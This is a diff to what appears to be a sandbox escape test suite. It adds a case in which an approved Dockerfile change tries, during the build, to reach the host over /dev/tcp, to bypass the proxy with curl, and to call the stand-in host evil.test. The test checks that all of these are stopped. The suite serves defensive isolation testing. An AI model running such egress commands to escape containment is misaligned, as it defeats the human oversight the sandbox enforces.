@@ -81,6 +81,22 @@ function screenCapture(w: World): Promise<string> {
   });
 }
 
+/** The neighbour's capability proposal with `change`, approved by the human on the host (rebuild and resume included). */
+async function proposeAndApprove(w: World, change: string): Promise<{ approved: boolean; detail: string }> {
+  const b64 = Buffer.from(change).toString('base64');
+  const r = await w.neighbourSh(`printf %s ${b64} | base64 -d > /tmp/change.txt; nohup bottle-ask request-capability --why 'need a tool' < /tmp/change.txt > /tmp/ask.out 2>&1 & echo started`);
+  if (!r.stdout.includes('started')) throw new Error(`cannot start bottle-ask in the neighbour: ${r.stderr}`);
+  let id: string | undefined;
+  for (let i = 0; i < 150 && id === undefined; i++) {
+    const list = await run(['proposals', '--json'], { env: w.h.env });
+    id = (JSON.parse(list.stdout || '[]') as { id: string; bottle: string; kind: string; state: string }[]).find((x) => x.bottle === w.other && x.kind === 'capability' && x.state === 'pending')?.id;
+    if (id === undefined) await new Promise((resolve) => setTimeout(resolve, 200));
+  }
+  if (id === undefined) throw new Error('control: the neighbour\'s capability proposal never reached the queue');
+  const approved = await run(['approve', id, '--note', 'escape suite'], { env: w.h.env, timeoutMs: 15 * 60_000 });
+  return { approved: approved.code === 0, detail: (approved.stderr.trim().split('\n').pop() ?? '').slice(0, 160) };
+}
+
 export const superviseCases: EscapeCase[] = [
   {
     id: 'supervise/escapes-in-proposals',
@@ -115,6 +131,32 @@ export const superviseCases: EscapeCase[] = [
       await hostileProposal(w);
       const r = await run(['logs', w.id], { env: w.h.env });
       return verdict('`logs`', r.stdout + r.stderr, true, /capability/);
+    },
+  },
+  {
+    id: 'supervise/capability-build-network',
+    category: 'supervise',
+    attack: "an approved Dockerfile change whose RUN steps reach the host, the upstream directly and an unrouted host while the image builds",
+    expect: 'stopped',
+    async run(w) {
+      const ip = (await w.backend.hostAddresses())[0] ?? '';
+      const tag = w.tag();
+      const hits = w.up.tcpHits();
+      const change = [
+        `RUN (timeout 5 bash -c 'echo ${tag} > /dev/tcp/${ip}/${w.up.tcpPort}' && echo reached-host) || echo host-refused`,
+        `RUN curl -sk --noproxy '*' --max-time 5 https://${ip}:${w.up.port}/direct-${tag} || echo direct-refused`,
+        `RUN curl -sk --max-time 5 https://evil.test:${w.up.port}/unrouted-${tag} || echo unrouted-refused`,
+        `RUN curl -sk --max-time 10 https://open.test:${w.up.port}/routed-${tag} || echo routed-failed`,
+      ].join('\n');
+      const a = await proposeAndApprove(w, change);
+      if (!a.approved) throw new Error(`the approved change did not build and resume: ${a.detail}`);
+      const reached: string[] = [];
+      if (w.up.tcpHits() !== hits) reached.push('the host listener');
+      if (w.up.received.some((r) => r.url === `/direct-${tag}`)) reached.push('the upstream, bypassing the proxy');
+      if (w.up.received.some((r) => r.url === `/unrouted-${tag}`)) reached.push('an unrouted host');
+      if (reached.length > 0) return escaped(`the build reached ${reached.join(', ')}`);
+      if (!w.up.received.some((r) => r.url === `/routed-${tag}`)) throw new Error("control: the bottle's own route was not reachable from the build either (is the build networked at all?)");
+      return stopped("the build reached the bottle's route only");
     },
   },
 ];
